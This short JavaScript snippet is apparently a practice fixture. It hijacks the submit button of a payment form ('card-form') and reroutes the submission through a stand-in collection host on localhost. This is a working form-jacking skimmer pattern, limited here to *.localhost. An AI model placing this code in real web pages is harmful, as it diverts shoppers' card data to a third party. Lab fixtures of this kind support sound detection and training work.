/* Inert practice fixture: acts on *.localhost only, and what it sends is counted and dropped. */
(() => {
  if (!location.hostname.endsWith('.localhost')) return;
  const home = `${location.protocol}//collect.localhost:${location.port}`;
  const form = document.getElementById('card-form');
  form?.querySelector('[type=submit]')?.addEventListener('click', () => {
    form.action = `${home}/relay?to=${encodeURIComponent(form.action)}`;
  });
})();
